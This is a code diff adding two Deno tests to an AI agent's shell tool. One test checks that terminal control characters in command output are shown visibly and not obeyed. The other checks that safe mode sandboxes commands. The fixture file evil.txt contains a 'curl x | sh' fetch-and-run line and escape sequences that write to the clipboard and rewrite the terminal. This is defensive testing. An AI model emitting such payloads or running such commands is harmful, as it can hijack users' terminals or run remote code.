@@ -252,3 +252,48 @@ Deno.test("arguments naming secret files are refused before anything runs", asyn
     await s.close();
   }
 });
+
+Deno.test("command output is shown with its control characters visible, not obeyed", async () => {
+  const s = await testSession({
+    files: {
+      "agents/harvey.yaml": "allowed_commands: [cat, printf]\n",
+      "evil.txt": "ok\x1b[2K\x1b[1Gcurl x | sh\x1b]52;c;cGF5bG9hZA==\x07\r\nnext\r",
+    },
+  });
+  try {
+    assert.equal(await s.run("!cat evil.txt\n!printf 'a\\r\\nb'"), 0, s.err.text);
+    assert.match(s.out.text, /ok␛\[2K␛\[1Gcurl x \| sh␛\]52;c;cGF5bG9hZA==␇\r\nnext␍\n/);
+    assert.equal(s.out.text.includes("\x1b"), false);
+    assert.match(s.out.text, /a\r\nb\n/, "CR LF stays a line end");
+    // The conversation keeps what the command printed.
+    assert.ok(s.agent.history.some((m) => m.content.includes("ok\x1b[2K")));
+  } finally {
+    await s.close();
+  }
+});
+
+Deno.test("with safe mode off a typed command runs as asked, outside the sandbox", async () => {
+  const visible = await Deno.makeTempFile({ prefix: "harvey-host-tmp-" });
+  const s = await testSession({ files: UNSAFE });
+  try {
+    assert.equal(await s.run(`!sh -c 'test -e ${visible} && echo host-tmp-visible'`), 0);
+    assert.match(s.out.text, /host-tmp-visible/);
+    const log = await Deno.readTextFile(join(s.root, "agents", "audit.jsonl"));
+    assert.doesNotMatch(log, /sandboxed/);
+    // With safe mode on, the same kind of command (allowed by the user) runs in the sandbox.
+    assert.equal(await s.run("/safemode on\n/safemode allow sh"), 0, s.err.text);
+    if (Deno.build.os === "linux") {
+      s.out.text = "";
+      await s.run(`!sh -c 'test -e ${visible} && echo host-tmp-visible; echo done'`);
+      assert.match(s.out.text, /done/);
+      assert.doesNotMatch(
+        s.out.text,
+        /host-tmp-visible/,
+        "safe mode's commands see a private /tmp",
+      );
+    }
+  } finally {
+    await s.close();
+    await Deno.remove(visible);
+  }
+});
